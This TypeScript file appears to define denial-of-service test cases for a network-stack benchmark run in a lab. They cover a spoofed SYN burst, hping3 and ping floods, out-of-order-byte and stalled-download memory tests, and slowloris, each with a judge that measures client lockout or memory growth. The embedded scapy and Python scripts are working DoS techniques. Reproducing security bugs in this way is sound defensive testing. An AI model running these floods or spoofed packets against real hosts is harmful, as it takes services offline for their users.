/**
 * The flood and connection cases of bench/attack.ts (issue 15's availability and memory findings): a 128-SYN burst,
 * SYN floods (half-open from the kernel's address, and from random spoofed sources), a UDP flood of the echo port, a
 * ping flood, out-of-order bytes on many connections, stalled downloads, and slowloris against the example's HTTP
 * server. Floods run with a legitimate client probing once a second.
 *
 * Spoofed sources that must stay silent come from 198.18.0.0/15 (RFC 2544's benchmark range): the stack answers them
 * through its gateway, the kernel (10.99.0.1, forwarding off), which drops the answers without a RST — a real
 * half-open flood. Attacks from the kernel's own address that need the same silence run in a lab whose nftables table
 * drops the kernel's RSTs to the stack (`dropKernelRsts`), as the reporter did.
 *
 * @module
 */
import { type AttackCase, delta, hping3, MiB, mib, status, withProber } from "./case.ts"
import { curl, OURS, sampleNow, sleep } from "./lab.ts"
import { PY_CONNECT, python, scapy } from "./scapy.ts"

export const synBurstCase: AttackCase = {
  id: "syn-burst",
  attack: "128 SYNs to port 80 in one burst from silent spoofed sources (198.18.0.0/15), then curl every 0.5 s",
  finding: "port 80 refuses real clients: no curl succeeds within 3 s after the burst",
  evidence: ["tcp.segmentsIn", "tcp.passiveOpens", "tcp.segmentsOut"],
  run: async (lab, o) => {
    const n = 128
    await scapy(
      lab,
      `sendp([eth()/IP(src=f"198.18.{i // 200}.{i % 200 + 1}", dst=OURS)/
        TCP(sport=40000 + i, dport=80, flags="S", seq=random.getrandbits(32), options=[("MSS", 1460)])
        for i in range(${n})], iface=IFACE)
out(sent=${n})`,
      20,
    )
    const t0 = Date.now()
    let firstOk: number | undefined
    let ok = 0
    let total = 0
    let worst = 0
    const failures: Record<string, number> = {}
    while (Date.now() - t0 < o.seconds * 1000) {
      const t = Date.now()
      const c = await curl(lab, "/", 1)
      total++
      if (c.ok) {
        ok++
        worst = Math.max(worst, c.seconds)
        firstOk ??= (t - t0) / 1000
      } else failures[c.status] = (failures[c.status] ?? 0) + 1
      const rest = 500 - (Date.now() - t)
      if (rest > 0) await sleep(rest)
    }
    return {
      sent: n,
      unit: "pkts",
      during: { pingOk: 0, pingTotal: 0, curlOk: ok, curlTotal: total, curlWorst: worst, failures },
      data: { firstOk },
    }
  },
  judge: (m, r, o) => {
    const firstOk = r.data.firstOk as number | undefined
    // the attack's end is the end of the watch; the recovery watch counts from there
    const lockout = m.recoveredAfter === undefined ? undefined : o.seconds + m.recoveredAfter
    return status(
      firstOk === undefined || firstOk > 3,
      firstOk !== undefined
        ? `first real client served ${firstOk.toFixed(1)} s after the burst`
        : lockout !== undefined
        ? `port 80 served a real client again ~${lockout.toFixed(0)} s after the burst`
        : `no real client served for the whole ${o.seconds} s watch after the burst (nor in the recovery watch)`,
    )
  },
}

/** A flood judged by the legitimate curls during it. */
export const floodCase = (
  id: string,
  attack: string,
  args: ReadonlyArray<string>,
  evidence: ReadonlyArray<string>,
  lab?: AttackCase["lab"],
): AttackCase => ({
  id,
  attack,
  finding: "the flood locks out or starves real TCP clients: fewer than 80% of the curls during it succeed (2 s " +
    "bound each), or the curl 2 s after it fails",
  ...(lab === undefined ? {} : { lab }),
  evidence,
  run: (l, o) => withProber(l, () => hping3(l, args, o.seconds), "pkts"),
  judge: (m, r) => {
    const d = r.during!
    const after = m.probes?.curl
    return status(
      d.curlOk < 0.8 * d.curlTotal || after?.ok !== true,
      `curl ${d.curlOk}/${d.curlTotal} during the flood, ${after?.ok === true ? "served" : "not served"} 2 s after`,
    )
  },
})

export const pingFloodCase: AttackCase = {
  id: "ping-flood",
  attack: "ping -f (flood ping: as fast as the replies come back, at least 100/s) for the flood window",
  finding: "RSS grows with the requests: in the second half of the flood by ≥ 1 KiB per request, and ≥ 32 MiB " +
    "retained 2 s after it (issue: Deno ~2.7 KiB per request without bound; Bun levels off, ~0.2–0.3 KiB measured)",
  evidence: ["icmp.echoRequestsReceived", "icmp.echoRepliesSent"],
  run: (lab, o) =>
    withProber(lab, async () => {
      const flood = lab.exec(["ping", "-n", "-q", "-f", "-w", String(o.seconds), OURS], o.seconds + 5)
      await sleep((o.seconds * 1000) / 2)
      const mid = { rss: sampleNow(lab).rss, frames: (await lab.tap()).toStack }
      const r = await flood
      const end = { rss: sampleNow(lab).rss, frames: (await lab.tap()).toStack }
      const sent = Number(/(\d+) packets transmitted/.exec(r.stdout)?.[1] ?? "0")
      const received = Number(/(\d+) received/.exec(r.stdout)?.[1] ?? "0")
      return { sent, data: { received, secondHalf: (end.rss - mid.rss) / Math.max(1, end.frames - mid.frames) } }
    }, "pkts"),
  judge: (m, r) => {
    const requests = delta(m, "icmp.echoRequestsReceived") ?? r.sent
    const retained = m.after.proc.rss - m.before.proc.rss
    const slope = r.data.secondHalf as number
    return status(
      retained >= 32 * MiB && slope >= 1024,
      `${requests} requests (${r.data.received} replies seen by ping): RSS +${(slope / 1024).toFixed(2)} KiB per ` +
        `request in the second half, ${retained >= 0 ? "+" : ""}${mib(retained)} retained ` +
        `(${(retained / Math.max(1, requests) / 1024).toFixed(2)} KiB/request), peak +${
          mib(m.peakRss - m.before.proc.rss)
        }`,
    )
  },
}

export const oooCase: AttackCase = {
  id: "ooo",
  attack: "N raw connections to port 80 (handshake by scapy), then one out-of-order byte on each (seq + 1000)",
  finding: "one out-of-order byte costs a connection > 4 KiB of RSS (issue: 15–45 KiB; Linux ~1 KiB)",
  lab: { dropKernelRsts: true },
  evidence: ["tcp.passiveOpens", "tcp.segmentsIn"],
  run: async (lab, o) => {
    const n = o.quick ? 300 : 1_000
    const r = await scapy(
      lab,
      `import gc
isn = {}; ys = {}
rss0 = rss()
for b in range(0, ${n}, 100):
    ports = list(range(20000 + b, 20000 + min(b + 100, ${n})))
    for p in ports: isn[p] = random.getrandbits(31)
    got = exchange([eth()/IP(src=KERNEL, dst=OURS)/TCP(sport=p, dport=80, flags="S", seq=isn[p], options=[("MSS", 1460)])
                    for p in ports], wait=0.4, bpf=f"ether src {SMAC} and tcp src port 80")
    for f in got:
        if f[TCP].flags.S and f[TCP].flags.A: ys[f[TCP].dport] = f[TCP].seq + 1
    sendp([eth()/IP(src=KERNEL, dst=OURS)/TCP(sport=p, dport=80, flags="A", seq=isn[p] + 1, ack=ys[p])
           for p in ports if p in ys], iface=IFACE)
time.sleep(1.5); rss1 = rss()
sendp([eth()/IP(src=KERNEL, dst=OURS)/TCP(sport=p, dport=80, flags="A", seq=isn[p] + 1001, ack=ys[p])/b"x"
       for p in ys], iface=IFACE)
time.sleep(2); rss2 = rss()
out(sent=len(ys), rss0=rss0, rss1=rss1, rss2=rss2)`,
      90,
    )
    return { sent: r.sent as number, unit: "conns", data: r }
  },
  judge: (_m, r) => {
    const n = Math.max(1, r.sent)
    const base = ((r.data.rss1 as number) - (r.data.rss0 as number)) / n / 1024
    const ooo = ((r.data.rss2 as number) - (r.data.rss1 as number)) / n / 1024
    if (r.sent < 10) return { status: "UNCLEAR", detail: `only ${r.sent} connections established` }
    return status(
      ooo > 4,
      `${r.sent} connections: ${base.toFixed(1)} KiB each established, +${ooo.toFixed(1)} KiB each with 1 OOO byte`,
    )
  },
}

export const stalledCase: AttackCase = {
  id: "stalled",
  attack: "N kernel connections (4 KiB receive buffer) each request 10 MB and never read; held, then closed",
  finding: "no stack-wide cap on send buffers: RSS grows by > 64 KiB per stalled download while they are held " +
    "(> 128 MiB for the full run's 2 000; issue: +280 MB)",
  evidence: ["tcp.passiveOpens", "http.requests"],
  run: (lab, o) =>
    withProber(lab, async () => {
      const n = o.quick ? 500 : 2_000
      const r = await python(
        lab,
        `${PY_CONNECT}
socks = connect_many(${n}, rcvbuf=4096)
for s in socks:
    try: s.sendall(b"GET /bytes/10000000 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    except OSError: pass
time.sleep(${o.seconds})
held = sum(1 for s in socks if not closed_by_peer(s))
for s in socks: s.close()
out(sent=len(socks), held=held)`,
        o.seconds + 60,
      )
      return { sent: r.sent as number, data: r }
    }, "conns"),
  judge: (m, r) => {
    const growth = m.peakRss - m.before.proc.rss
    const retained = m.after.proc.rss - m.before.proc.rss
    return status(
      growth > 64 * 1024 * r.sent,
      `${r.sent} stalled downloads (${r.data.held} held to the end): RSS peak +${mib(growth)}, ` +
        `${mib(retained)} retained 2 s after closing`,
    )
  },
}

export const slowlorisCase: AttackCase = {
  id: "slowloris",
  attack: "N connections to the HTTP server: half trickle a header line every 2 s, half send nothing",
  finding: "no header/idle timeout: ≥ 90% of the connections are still open at the end of the hold",
  evidence: ["tcp.passiveOpens", "http.connections"],
  run: (lab, o) =>
    withProber(lab, async () => {
      const n = o.quick ? 200 : 500
      const r = await python(
        lab,
        `${PY_CONNECT}
socks = connect_many(${n})
trickle = socks[: len(socks) // 2]
for s in trickle:
    try: s.send(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n")
    except OSError: pass
t_end = time.time() + ${o.seconds}
while time.time() < t_end:
    time.sleep(min(2, max(0, t_end - time.time())))
    for s in trickle:
        try: s.send(b"X-a: b\\r\\n")
        except OSError: pass
open_t = sum(1 for s in trickle if not closed_by_peer(s))
open_i = sum(1 for s in socks[len(trickle):] if not closed_by_peer(s))
for s in socks: s.close()
out(sent=len(socks), trickleOpen=open_t, idleOpen=open_i, trickle=len(trickle))`,
        o.seconds + 60,
      )
      return { sent: r.sent as number, data: r }
    }, "conns"),
  judge: (_m, r, o) => {
    const open = (r.data.trickleOpen as number) + (r.data.idleOpen as number)
    return status(
      open >= 0.9 * r.sent,
      `after ${o.seconds} s: ${r.data.trickleOpen}/${r.data.trickle} trickling and ` +
        `${r.data.idleOpen}/${r.sent - (r.data.trickle as number)} silent connections still open`,
    )
  },
}
